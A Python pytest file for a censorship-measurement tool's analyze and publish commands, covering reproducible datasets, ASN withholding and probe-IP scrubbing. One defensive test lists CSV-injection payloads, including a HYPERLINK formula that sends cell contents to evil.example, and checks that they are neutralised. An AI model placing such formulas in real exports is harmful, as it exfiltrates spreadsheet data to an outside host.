"""`censorscope analyze` and `publish`: tables, a valid and reproducible dataset, no probe IPs."""

from __future__ import annotations

import csv
import gzip
from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from probes.cli import app
from probes.measurement import Measurement, new_measurement_uid, new_report_id, ooni_time
from probes.store import ReportManifest, ResultsStore
from tests import analysis_helpers as h
from tests.shared_data import SHARED_DATA

WC_REAL = SHARED_DATA / "ooni" / "web_connectivity_real.jsonl"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("store")
    h.write_store(root)
    return root


def _publish(store: Path, out: Path, *extra: str) -> None:
    result = CliRunner().invoke(
        app, ["publish", "--results", str(store), "--out", str(out), *extra]
    )
    assert result.exit_code == 0, result.output


def test_analyze_writes_tables_and_summary(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "tables"
    result = CliRunner().invoke(app, ["analyze", "--results", str(store), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "blocked.example: blocked at censored (dns, dns.injected)" in result.output
    findings = pd.read_parquet(out / "findings.parquet")
    assert list(findings["target"]) == [h.BLOCKED, h.DOWN, h.OPEN]
    assert pd.read_csv(out / "changes.csv")["event"].dropna().tolist() == ["start", "stop"]


def test_analyze_streamed_writes_the_same_tables(store: Path, tmp_path: Path) -> None:
    tables = {}
    for engine in ("pandas", "stream"):
        out = tmp_path / engine
        args = ["analyze", "--results", str(store), "--ooni", str(WC_REAL), "--out", str(out)]
        result = CliRunner().invoke(app, [*args, "--engine", engine])
        assert result.exit_code == 0, result.output
        assert "blocked.example: blocked at censored (dns, dns.injected)" in result.output
        tables[engine] = {
            name: pd.read_parquet(out / f"{name}.parquet")
            for name in ("findings", "vantages", "timelines", "changes")
        }
    for name, frame in tables["pandas"].items():
        pd.testing.assert_frame_equal(frame, tables["stream"][name], check_dtype=False)


def test_stream_engine_is_for_analyze_only(store: Path, tmp_path: Path) -> None:
    out = tmp_path / "r.html"
    result = CliRunner().invoke(
        app, ["report", "--results", str(store), "--out", str(out), "--engine", "stream"]
    )
    assert result.exit_code == 2 and "--engine" in result.output


def test_stream_engine_names_a_missing_store(tmp_path: Path) -> None:
    missing = tmp_path / "nowhere"
    result = CliRunner().invoke(
        app, ["analyze", "--results", str(missing), "--out", "o", "--engine", "stream"]
    )
    assert result.exit_code == 2 and f"{missing}: no such results directory" in result.output


def test_analyze_bad_usage_exits_2(tmp_path: Path) -> None:
    runner = CliRunner()
    missing = runner.invoke(app, ["analyze", "--ooni", str(tmp_path / "x.jsonl"), "--out", "o"])
    assert missing.exit_code == 2 and "x.jsonl" in missing.output
    bad_day = runner.invoke(
        app, ["analyze", "--results", str(tmp_path), "--since", "2024-13-01", "--out", "o"]
    )
    assert bad_day.exit_code == 2 and "--since" in bad_day.output


def test_publish_is_valid_reproducible_and_withholds_asn(store: Path, tmp_path: Path) -> None:
    from frictionless import Package

    first, second = tmp_path / "a", tmp_path / "b"
    _publish(store, first, "--drop-asn", "censored")
    _publish(store, second, "--drop-asn", "censored")
    files = sorted(p.relative_to(first) for p in first.rglob("*") if p.is_file())
    assert files == sorted(p.relative_to(second) for p in second.rglob("*") if p.is_file())
    for rel in files:
        assert (first / rel).read_bytes() == (second / rel).read_bytes(), rel
    part = "data/measurements/date=2024-03-01/probe_cc=XC/test_name=tcp_connect/part-0.parquet"
    assert Path(part) in files
    raw = "raw/20240301/12/XC/tcpconnect/2024030112_XC_tcpconnect.censorscope.0.jsonl.gz"
    assert Path(raw) in files
    report = Package(str(first / "datapackage.json")).validate()
    assert report.valid, report.flatten(["type", "note"])
    sums = (first / "SHA256SUMS").read_text().splitlines()
    assert len(sums) == len(files) - 1  # every file but SHA256SUMS itself
    m = pd.read_parquet(first / "data" / "measurements")
    assert len(m) == 2 * h.DAYS * h.REPEATS * 3
    assert m.loc[m["vantage"] == "censored", "probe_asn"].isna().all()
    assert (m.loc[m["vantage"] == "open", "probe_asn"] == "AS64501").all()
    assert "probe_ip" not in m.columns and "source" not in m.columns
    card = (first / "README.md").read_text()
    assert "How to cite" in card and "2024-03-01 to 2024-03-10" in card


@pytest.mark.skipif(not WC_REAL.exists(), reason="reference data absent")
def test_publish_real_ooni_has_no_probe_ip(tmp_path: Path) -> None:
    import orjson

    out = tmp_path / "pkg"
    result = CliRunner().invoke(app, ["publish", "--ooni", str(WC_REAL), "--out", str(out)])
    assert result.exit_code == 0, result.output
    probe_ips = {
        orjson.loads(line).get("probe_ip") for line in WC_REAL.read_bytes().splitlines() if line
    } - {None, "127.0.0.1"}
    m = pd.read_parquet(out / "data" / "measurements")
    text = m.astype(str).to_csv() + "".join(p.read_text() for p in out.glob("*.csv"))
    raw = [gzip.decompress(p.read_bytes()).decode() for p in (out / "raw").rglob("*.jsonl.gz")]
    assert sum(chunk.count("\n") for chunk in raw) == 28
    text += "".join(raw)
    assert not any(ip in text for ip in probe_ips)
    assert len(m) == 28


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)")


def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    """OWASP CSV injection: formula-like inputs get a leading ' in every CSV, not in Parquet."""
    store = ResultsStore(tmp_path / "store")
    for vantage in ("censored", "open"):
        moment = h.START
        report_id = new_report_id("tcp_connect", "ZZ", "AS0", moment)
        manifest = ReportManifest(
            report_id, "tcp_connect", vantage, moment.date().isoformat(), ooni_time(moment)
        )
        with store.open_report(manifest) as writer:
            for target in FORMULAS:
                writer.append(
                    Measurement(
                        test_name="tcp_connect",
                        test_version="0.1.0",
                        input=target,
                        report_id=report_id,
                        measurement_uid=new_measurement_uid("tcp_connect", "ZZ", moment),
                        test_start_time=ooni_time(moment),
                        measurement_start_time=ooni_time(moment),
                        annotations={"vantage": vantage},
                        test_keys={"blocking": False, "blocking_detail": None},
                    )
                )
    out = tmp_path / "tables"
    result = CliRunner().invoke(app, ["analyze", "--results", str(store.root), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert sorted(pd.read_parquet(out / "findings.parquet")["target"]) == sorted(FORMULAS)
    _publish(store.root, tmp_path / "dataset")
    for csv_path in [*out.glob("*.csv"), *(tmp_path / "dataset").glob("*.csv")]:
        with csv_path.open(newline="", encoding="utf-8") as handle:
            for row in csv.DictReader(handle):
                for name, cell in row.items():
                    assert not cell.startswith(("=", "+", "@")), (csv_path.name, name, cell)
                    assert not cell.startswith("-") or _number(cell), (csv_path.name, name, cell)
    with (out / "findings.csv").open(newline="", encoding="utf-8") as handle:
        targets = sorted(row["target"] for row in csv.DictReader(handle))
    assert targets == sorted("'" + f for f in FORMULAS)


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_publish_scrubs_addresses_a_store_still_holds(tmp_path: Path) -> None:
    """A store written before a scrubbing fix (here: the dashed and IPv6 forms) publishes
    nothing of the probe's address."""
    from probes.measurement import Measurement, new_measurement_uid, new_report_id, ooni_time
    from probes.store import ReportManifest, ResultsStore

    store = ResultsStore(tmp_path / "store")
    moment = h.START
    report_id = new_report_id("tcp_connect", "XC", "AS64500", moment)
    manifest = ReportManifest(
        report_id, "tcp_connect", "v", moment.date().isoformat(), ooni_time(moment)
    )
    leaks = ["203-0-113-7.dsl.example:443", "[2001:DB8:0::7]:443", "203.0.113.7:80"]
    with store.open_report(manifest) as writer:
        for i, target in enumerate(leaks):
            writer.append(
                Measurement(
                    test_name="tcp_connect",
                    test_version="0.1.0",
                    input=target,
                    report_id=report_id,
                    measurement_uid=new_measurement_uid("tcp_connect", "XC", moment),
                    probe_cc="XC",
                    probe_asn="AS64500",
                    test_start_time=ooni_time(moment),
                    measurement_start_time=ooni_time(moment),
                    annotations={"vantage": "v"},
                    test_keys={"blocking": "tcp_ip", "blocking_detail": f"from 203.0.113.7 #{i}"},
                )
            )
    out = tmp_path / "out"
    _publish(store.root, out, "--scrub", "203.0.113.7", "--scrub", "2001:db8::7")
    cells: list[str] = []
    for path in out.rglob("*.parquet"):
        frame = pd.read_parquet(path)
        cells += [str(v) for column in frame.columns for v in frame[column].dropna()]
    texts = [p.read_text() for p in out.rglob("*") if p.suffix in (".csv", ".md", ".json")]
    everything = "\n".join(cells + texts).lower()
    assert "[scrubbed]" in everything
    for form in ("203.0.113.7", "203-0-113-7", "2001:db8:0::7"):
        assert form not in everything


def test_scrubbing_a_category_cell_keeps_the_rest_of_it() -> None:
    """A category column (vantage, probe_asn, ...) holding our address: the scrubbed text is
    published, not a missing value (a cast back to the old categories made it NaN)."""
    from analysis.publish import scrub_frame
    from probes.measurement import Scrubber

    frame = pd.DataFrame(
        {"vantage": pd.Series(["home-203.0.113.7", "office", "home-203.0.113.7"], dtype="category")}
    )
    out = scrub_frame(frame, Scrubber(["203.0.113.7"]))
    assert out["vantage"].tolist() == ["home-[scrubbed]", "office", "home-[scrubbed]"]
    assert isinstance(out["vantage"].dtype, pd.CategoricalDtype)


def test_publish_refuses_a_bad_scrub_address(tmp_path: Path, store: Path) -> None:
    result = CliRunner().invoke(
        app, ["publish", "--results", str(store), "--out", str(tmp_path), "--scrub", "nope"]
    )
    assert result.exit_code == 2 and "--scrub" in result.output


@pytest.mark.skipif(not WC_REAL.exists(), reason="reference data absent")
def test_probe_block_page_survives_publish_and_report_without_fingerprints(
    tmp_path: Path,
) -> None:
    """issue 14 item 5: the lab demo's fingerprint-confirmed block page, analysed without
    --fingerprints, stays a block page; the card and the report say what evidence was used."""
    import orjson

    first = orjson.loads(WC_REAL.read_bytes().splitlines()[0])  # ID archive.org, v0.4 "false"
    claimed = dict(first)
    claimed["test_keys"] = dict(
        first["test_keys"],
        blocking="http-diff",
        blocking_detail="http.blockpage",
        blocking_fingerprint="ooni.id_lamanlabuh_kominfo",
    )
    plain_false = dict(first, input="http://other.example/")
    plain_false["test_keys"] = dict(first["test_keys"], blocking="dns")  # a probe that erred
    source = tmp_path / "m.jsonl"
    source.write_bytes(orjson.dumps(claimed) + b"\n" + orjson.dumps(plain_false) + b"\n")
    out = tmp_path / "pkg"
    result = CliRunner().invoke(app, ["publish", "--ooni", str(source), "--out", str(out)])
    assert result.exit_code == 0, result.output
    m = pd.read_parquet(out / "data" / "measurements").set_index("input")
    row = m.loc[first["input"]]
    assert (row["blocking"], row["blocking_fingerprint"]) == (
        "http-diff",
        "ooni.id_lamanlabuh_kominfo",
    )
    assert m.loc["http://other.example/", "disagreement"].startswith("probe dns; analysis false")
    card = (out / "README.md").read_text()
    assert "Fingerprints given to the analysis: none." in card
    assert "1 block page verdicts rest on fingerprints the probes matched" in card
    assert "ooni.id_lamanlabuh_kominfo" in card
    assert "1 re-derived verdicts differ from the probe's" in card
    html_out = tmp_path / "r.html"
    result = CliRunner().invoke(app, ["report", "--ooni", str(source), "--out", str(html_out)])
    assert result.exit_code == 0, result.output
    page = html_out.read_text()
    assert "Where the analysis and the probe disagree" in page
    assert "probe dns; analysis false" in page
    assert "1 verdicts rest on a fingerprint the probe matched" in page


@pytest.mark.parametrize("engine", ["pandas", "stream", "dask"])
def test_gate_options_reach_every_engine(store: Path, tmp_path: Path, engine: str) -> None:
    if engine == "dask":
        pytest.importorskip("dask.distributed", reason="the `dask` extra is not installed")
    out = tmp_path / engine
    result = CliRunner().invoke(
        app,
        ["analyze", "--results", str(store), "--out", str(out), "--engine", engine,
         "--min-measurements", "1000"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    findings = pd.read_csv(out / "findings.csv").set_index("target")
    assert findings.loc[h.BLOCKED, "finding"] == "suggestive at censored (missed: n)"
    assert "suggestive somewhere: 1" in result.output
